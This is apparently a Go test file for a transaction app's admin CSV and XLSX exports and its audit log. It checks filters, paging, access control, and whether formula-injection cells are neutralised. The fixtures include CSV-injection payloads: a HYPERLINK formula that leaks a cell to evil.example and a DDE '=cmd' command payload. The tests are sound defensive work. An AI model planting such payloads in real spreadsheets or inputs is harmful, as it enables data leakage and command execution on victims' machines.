package handlers_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/xuri/excelize/v2"

	"github.com/markuproom/markuproom/models"
	"github.com/markuproom/markuproom/models/modelstest"
)

// exportHeader is the transactions exports' header row.
var exportHeader = []string{"Transaction ID", "Reference ID", "Organization ID", "Organization", "Status", "Status since (UTC)",
	"Documents", "Document titles", "Sender", "Created by", "Participants", "Participant names", "Participant e-mails",
	"Markup Rooms", "Created (UTC)", "Last change (UTC)"}

// readCSV checks an export's headers and reads its rows back, the header
// row first.
func readCSV(t *testing.T, res *response, name string) [][]string {
	t.Helper()
	res.status(http.StatusOK)
	if ct := res.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("Content-Type = %q", ct)
	}
	if cd := res.Header().Get("Content-Disposition"); cd != `attachment; filename=`+name {
		t.Fatalf("Content-Disposition = %q, want the file %s", cd, name)
	}
	if res.Header().Get("Cache-Control") != "no-store" {
		t.Fatalf("Cache-Control = %q", res.Header().Get("Cache-Control"))
	}
	r := csv.NewReader(bytes.NewReader(res.Body.Bytes()))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read back: %v", err)
	}
	return rows
}

// byID indexes rows (after the header) by their first cell.
func byID(t *testing.T, rows [][]string) map[string][]string {
	t.Helper()
	out := map[string][]string{}
	for _, r := range rows[1:] {
		if _, dup := out[r[0]]; dup {
			t.Fatalf("row %s twice", r[0])
		}
		out[r[0]] = r
	}
	return out
}

func TestAdminTransactionsExportCSVAndXLSX(t *testing.T) {
	t.Parallel()
	modelstest.Each(t, func(t *testing.T, env *modelstest.Env) {
		s := newServer(t, env)
		acme := env.NewTenant(t, "Acme")
		other := env.NewTenant(t, "Other Co")
		newAdmin(t, env, acme.Org.ID, "ada@example.com")
		// A room with two documents; an API transaction whose referenceId and
		// participant would run as formulas; a room in another organization.
		body := roomBody(acme, s.upload(acme.Token))
		body["documents"] = arr{body["documents"].(arr)[0], s.upload(acme.Token).Location}
		room := s.createRoom(acme.Token, body)
		hostile := txPayload(s.upload(acme.Token), "+1")
		people := hostile["participants"].(arr)
		people[0].(obj)["firstName"] = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
		delete(people[0].(obj), "middleName")
		people[0].(obj)["lastName"] = "Buyer"
		hostile["documents"].(arr)[0].(obj)["title"] = "@SUM(1+1)"
		var tx struct {
			ID string `json:"id"`
		}
		s.do(jsonReq(http.MethodPost, "/api/v1/transactions", acme.Token, hostile)).status(http.StatusCreated).json(&tx)
		elsewhere := s.createRoom(other.Token, roomBody(other, s.upload(other.Token)))

		b, _ := adminSignIn(t, s, "ada@example.com", "correct horse")
		day := env.Clock.Now().UTC().Format("2006-01-02")
		rows := readCSV(t, b.get("/admin/transactions.csv"), "markuproom-transactions-"+day+".csv")
		if !slices.Equal(rows[0], exportHeader) {
			t.Fatalf("header = %q", rows[0])
		}
		got := byID(t, rows)
		if len(got) != 3 || rows[1][0] != elsewhere.TransactionID {
			t.Fatalf("%d rows, first %s; want 3, newest first", len(got), rows[1][0])
		}
		r := got[room.TransactionID]
		want := map[int]string{1: "", 2: itoa64(acme.Org.ID), 3: "Acme", 4: "draft", 6: "2", 7: "contract; contract", 8: "Sam Sender",
			10: "2", 11: "Pat Buyer; Robin Seller", 12: "pat@example.com; robin@example.com", 13: room.ID,
			14: env.Clock.Now().UTC().Format(time.RFC3339)}
		for i, w := range want {
			if r[i] != w {
				t.Errorf("room's %s = %q, want %q", exportHeader[i], r[i], w)
			}
		}
		// The CSV-injection case: cells that would run as formulas read as text.
		h := got[tx.ID]
		if h[1] != "'+1" || h[7] != "'@SUM(1+1)" || !strings.HasPrefix(h[11], `'=HYPERLINK("http://evil.example/?"&A1,"Click") Buyer; Robin Seller`) {
			t.Errorf("hostile cells not neutralised: ref %q, titles %q, names %q", h[1], h[7], h[11])
		}
		if h[12] != "Pat.Buyer@example.com; robin@example.com" || h[13] != "" {
			t.Errorf("API transaction's e-mails %q, rooms %q", h[12], h[13])
		}

		// The filters are the page's: organization, status, search.
		for query, ids := range map[string][]string{
			"org=" + itoa64(other.Org.ID):         {elsewhere.TransactionID},
			"org=" + itoa64(acme.Org.ID):          {tx.ID, room.TransactionID},
			"q=pat.buyer%40":                      {tx.ID},
			"status=esign_pending":                {},
			"status=draft&q=robin&after=" + tx.ID: {elsewhere.TransactionID, tx.ID, room.TransactionID}, // paging is not a filter
		} {
			rows := readCSV(t, b.get("/admin/transactions.csv?"+query), "markuproom-transactions-"+day+".csv")
			var got []string
			for _, r := range rows[1:] {
				got = append(got, r[0])
			}
			if !slices.Equal(got, ids) {
				t.Errorf("%s: rows %v, want %v", query, got, ids)
			}
		}
		// The page's export links carry its filters, not its page.
		page := b.get("/admin/transactions?org=" + itoa64(acme.Org.ID) + "&status=draft&q=pat&after=" + elsewhere.TransactionID).status(http.StatusOK).Body.String()
		for _, link := range []string{"/admin/transactions.csv", "/admin/transactions.xlsx"} {
			if want := `href="` + link + "?org=" + itoa64(acme.Org.ID) + `&amp;q=pat&amp;status=draft" download`; !strings.Contains(page, want) {
				t.Errorf("the page lacks %s", want)
			}
		}
		b.get("/admin/transactions.csv?status=bogus").status(http.StatusBadRequest)
		b.get("/admin/transactions.xlsx?org=x").status(http.StatusBadRequest)

		checkXLSX(t, b.get("/admin/transactions.xlsx"), "markuproom-transactions-"+day+".xlsx", rows, tx.ID)

		// Without a console session: the sign-in page, as the console's other pages.
		for _, path := range []string{"/admin/transactions.csv", "/admin/transactions.xlsx", "/admin/audit.csv"} {
			res := s.browser().get(path).status(http.StatusSeeOther)
			if res.Header().Get("Location") != "/admin/login" || strings.Contains(res.Body.String(), room.TransactionID) {
				t.Errorf("%s without a session → %q", path, res.Header().Get("Location"))
			}
		}
	})
}

// checkXLSX reads the workbook back: the same rows as the CSV, a bold
// header, column widths, the hostile transaction's cells as text (inline
// strings, no formulas).
func checkXLSX(t *testing.T, res *response, name string, csvRows [][]string, hostileID string) {
	t.Helper()
	res.status(http.StatusOK)
	if ct := res.Header().Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" ||
		res.Header().Get("Content-Disposition") != "attachment; filename="+name || res.Header().Get("Cache-Control") != "no-store" {
		t.Fatalf("XLSX headers: %v", res.Header())
	}
	f, err := excelize.OpenReader(bytes.NewReader(res.Body.Bytes()))
	if err != nil {
		t.Fatalf("the XLSX does not open: %v", err)
	}
	defer func() { _ = f.Close() }()
	rows, err := f.GetRows("Transactions")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(csvRows) || !slices.Equal(rows[0], exportHeader) {
		t.Fatalf("XLSX: %d rows, header %q; CSV: %d rows", len(rows), rows[0], len(csvRows))
	}
	for i := 1; i < len(rows); i++ {
		for j, cell := range rows[i] {
			if j == 5 || j >= 14 { // dates: a date cell, shown as yyyy-mm-dd hh:mm:ss
				want := strings.ReplaceAll(strings.TrimSuffix(csvRows[i][j], "Z"), "T", " ")
				if cell != want {
					t.Errorf("row %d %s = %q, want %q", i, exportHeader[j], cell, want)
				}
				continue
			}
			if cell != csvRows[i][j] {
				t.Errorf("row %d %s = %q, CSV has %q", i, exportHeader[j], cell, csvRows[i][j])
			}
		}
	}
	style, err := f.GetCellStyle("Transactions", "A1")
	if err != nil {
		t.Fatal(err)
	}
	if s, err := f.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("the header is not bold: %+v %v", s, err)
	}
	if w, err := f.GetColWidth("Transactions", "A"); err != nil || w != 38 {
		t.Errorf("column A's width = %v %v", w, err)
	}
	for i := 1; i < len(rows); i++ {
		if rows[i][0] != hostileID {
			continue
		}
		for _, col := range []string{"B", "H", "L"} {
			cell := fmt.Sprintf("%s%d", col, i+1)
			formula, _ := f.GetCellFormula("Transactions", cell)
			kind, _ := f.GetCellType("Transactions", cell)
			value, _ := f.GetCellValue("Transactions", cell)
			if formula != "" || kind != excelize.CellTypeInlineString || !strings.HasPrefix(value, "'") {
				t.Errorf("%s: formula %q, type %v, value %q", cell, formula, kind, value)
			}
		}
		return
	}
	t.Error("the hostile transaction is not in the workbook")
}

// seedExportTransactions writes n transactions in org, fast (a bulk
// insert): two participants and a created event each. Their ids are
// time-ordered, newest last.
func seedExportTransactions(tb testing.TB, env *modelstest.Env, orgID int64, n int) []string {
	tb.Helper()
	now := env.Clock.Now().UTC()
	txs := make([]models.Transaction, n)
	people := make([]models.Participant, 0, 2*n)
	ids := make([]string, n)
	for i := range txs {
		id, _ := uuid.NewV7()
		ids[i] = id.String()
		txs[i] = models.Transaction{ID: ids[i], OrganizationID: orgID, ReferenceID: fmt.Sprintf("REF-%06d", i), Status: models.StatusDraft,
			EVault: "default", SendFinalEnoteTo: models.StringList{"default"}, Version: 1, ParticipantCount: 2, CreatedAt: now, UpdatedAt: now}
		for j := 0; j < 2; j++ {
			people = append(people, models.Participant{TransactionID: ids[i], Position: j, ParticipantID: fmt.Sprintf("p%d", j),
				Email: fmt.Sprintf("person%d@example.com", 2*i+j), FirstName: "Per", LastName: fmt.Sprintf("Son %d", j),
				AuthenticationType: models.AuthNone, TwoFactorContact: models.ContactEmail})
		}
	}
	if err := env.DB.DB.CreateInBatches(txs, 500).Error; err != nil {
		tb.Fatal(err)
	}
	if err := env.DB.DB.CreateInBatches(people, 500).Error; err != nil {
		tb.Fatal(err)
	}
	return ids
}

// An export longer than a page reads every row once, newest first, and the
// organization filter holds across the pages.
func TestAdminTransactionsCSVReadsEveryRowOnceAcrossPages(t *testing.T) {
	t.Parallel()
	modelstest.Each(t, func(t *testing.T, env *modelstest.Env) {
		s := newServer(t, env)
		acme := env.NewTenant(t, "Acme")
		other := env.NewTenant(t, "Other Co")
		newAdmin(t, env, acme.Org.ID, "ada@example.com")
		acmeIDs := seedExportTransactions(t, env, acme.Org.ID, 2*models.ExportPageSize+37)
		otherIDs := seedExportTransactions(t, env, other.Org.ID, models.ExportPageSize)
		b, _ := adminSignIn(t, s, "ada@example.com", "correct horse")
		name := "markuproom-transactions-" + env.Clock.Now().UTC().Format("2006-01-02") + ".csv"

		for query, want := range map[string][]string{"": append(slices.Clone(acmeIDs), otherIDs...), "?org=" + itoa64(acme.Org.ID): acmeIDs} {
			rows := readCSV(t, b.get("/admin/transactions.csv"+query), name)
			got := byID(t, rows) // fails on a repeated row
			if len(got) != len(want) {
				t.Fatalf("%q: %d rows, want %d", query, len(got), len(want))
			}
			for _, id := range want {
				if _, ok := got[id]; !ok {
					t.Fatalf("%q: row %s missing", query, id)
				}
			}
			for i := 2; i < len(rows); i++ {
				if rows[i][0] >= rows[i-1][0] {
					t.Fatalf("%q: row %d (%s) is not older than the one before (%s)", query, i, rows[i][0], rows[i-1][0])
				}
			}
			if r := got[acmeIDs[5]]; r[11] != "Per Son 0; Per Son 1" || r[12] != "person10@example.com; person11@example.com" {
				t.Errorf("a later page's participants: %q %q", r[11], r[12])
			}
		}
	})
}

func TestAdminAuditCSV(t *testing.T) {
	t.Parallel()
	modelstest.Each(t, func(t *testing.T, env *modelstest.Env) {
		s := newServer(t, env)
		acme := env.NewTenant(t, "Acme")
		other := env.NewTenant(t, "Other Co")
		newAdmin(t, env, acme.Org.ID, "ada@example.com")
		ctx := context.Background()
		txID := "01900000-0000-7000-8000-00000000e1e1"
		token := models.WithAuditActor(ctx, models.AuditActor{Kind: models.AuditActorAPIToken, ID: "7", Name: "Import job", Via: "api", Address: "192.0.2.7"})
		roomActor := models.WithAuditActor(ctx, models.AuditActor{Kind: models.AuditActorRoom, ID: "r-1", Name: "Sam Sender · Markup Room", Via: "room", Address: "198.51.100.9"})
		record := func(ctx context.Context, e models.AuditEntry) {
			if err := env.Store.RecordAudit(ctx, e); err != nil {
				t.Fatal(err)
			}
		}
		start := env.Clock.Now()
		record(token, models.AuditEntry{OrganizationID: acme.Org.ID, Action: "transaction.replaced", TargetType: "transaction", TargetID: txID, TransactionID: txID, Summary: "Replaced"})
		env.Clock.Advance(2 * time.Hour)
		record(roomActor, models.AuditEntry{OrganizationID: acme.Org.ID, Action: "participant.renamed", TargetType: "participant", TargetID: "buyer", TransactionID: txID,
			Summary: `=cmd|' /C calc'!A0 renamed to "Robin Seller-Smith"`})
		env.Clock.Advance(2 * time.Hour)
		record(token, models.AuditEntry{OrganizationID: other.Org.ID, Action: "participant.removed", TargetType: "participant", TargetID: "seller", Summary: "-removed"})
		// Many more than a page of the trail, so the export reads several.
		for i := 0; i < models.MaxAuditPage+5; i++ {
			record(token, models.AuditEntry{OrganizationID: other.Org.ID, Action: "room.tag_created", TargetType: "tag", TargetID: fmt.Sprint(i)})
		}

		b, _ := adminSignIn(t, s, "ada@example.com", "correct horse")
		name := "markuproom-audit-" + env.Clock.Now().UTC().Format("2006-01-02") + ".csv"
		// Not sealed yet: no seq, no hash.
		for _, r := range readCSV(t, b.get("/admin/audit.csv?org="+itoa64(acme.Org.ID)+"&transaction="+txID), name)[1:] {
			if r[13] != "" || r[14] != "" {
				t.Fatalf("an unsealed event's seq and hash: %q", r)
			}
		}
		if err := env.Store.SealAuditBacklog(ctx); err != nil {
			t.Fatal(err)
		}
		all := readCSV(t, b.get("/admin/audit.csv"), name)
		header := []string{"Time (UTC)", "Organization ID", "Organization", "Actor kind", "Actor ID", "Actor name", "Via", "Address",
			"Action", "Target type", "Target ID", "Transaction ID", "Summary", "Seq", "Hash"}
		if !slices.Equal(all[0], header) {
			t.Fatalf("header = %q", all[0])
		}
		var total int64
		if err := env.DB.DB.Model(&models.AuditEvent{}).Count(&total).Error; err != nil {
			t.Fatal(err)
		}
		if int64(len(all)-1) != total {
			t.Fatalf("%d rows for %d events", len(all)-1, total)
		}
		seen := map[string]bool{}
		for _, r := range all[1:] {
			key := r[1] + "/" + r[13]
			if seen[key] {
				t.Fatalf("event %s twice", key)
			}
			seen[key] = true
		}

		rows := readCSV(t, b.get("/admin/audit.csv?org="+itoa64(acme.Org.ID)+"&transaction="+txID), name)
		if len(rows) != 3 {
			t.Fatalf("transaction filter: %d rows", len(rows)-1)
		}
		renamed := rows[1] // newest first
		want := []string{env.Clock.Now().Add(-2 * time.Hour).UTC().Format("2006-01-02T15:04:05.000000Z"), itoa64(acme.Org.ID), "Acme",
			"room", "r-1", "Sam Sender · Markup Room", "room", "198.51.100.9", "participant.renamed", "participant", "buyer", txID,
			`'=cmd|' /C calc'!A0 renamed to "Robin Seller-Smith"`}
		if !slices.Equal(renamed[:13], want) || renamed[13] == "" || len(renamed[14]) != 64 {
			t.Errorf("event row = %q\nwant       %q", renamed, want)
		}
		if rows[2][8] != "transaction.replaced" || rows[2][5] != "Import job" || rows[2][3] != "api_token" {
			t.Errorf("older event row = %q", rows[2])
		}

		count := func(query string) int {
			return len(readCSV(t, b.get("/admin/audit.csv?"+query), name)) - 1
		}
		var otherEvents int64
		if err := env.DB.DB.Model(&models.AuditEvent{}).Where("organization_id = ?", other.Org.ID).Count(&otherEvents).Error; err != nil {
			t.Fatal(err)
		}
		for query, n := range map[string]int{
			"org=" + itoa64(other.Org.ID):                  int(otherEvents),
			"action=participant.":                          2,
			"action=participant.removed":                   1,
			"actor=markup+room&org=" + itoa64(acme.Org.ID): 1,
			"actor=7&action=transaction.":                  1,
			"from=" + url.QueryEscape(start.Add(time.Hour).UTC().Format(time.RFC3339)) + "&to=" + url.QueryEscape(start.Add(3*time.Hour).UTC().Format(time.RFC3339)) + "&org=" + itoa64(acme.Org.ID): 1,
			"transaction=01900000-0000-7000-8000-00000000ffff": 0,
		} {
			if got := count(query); got != n {
				t.Errorf("%s: %d rows, want %d", query, got, n)
			}
		}
		if r := readCSV(t, b.get("/admin/audit.csv?action=participant.removed"), name); r[1][12] != "'-removed" {
			t.Errorf("summary %q is not neutralised", r[1][12])
		}
		for _, bad := range []string{"org=acme", "org=-1", "action=DROP%20TABLE", "transaction=42", "from=yesterday", "to=2026-13-01",
			"from=2026-11-26&to=2026-11-25", "actor=" + strings.Repeat("a", 201)} {
			b.get("/admin/audit.csv?" + bad).status(http.StatusBadRequest)
		}
	})
}
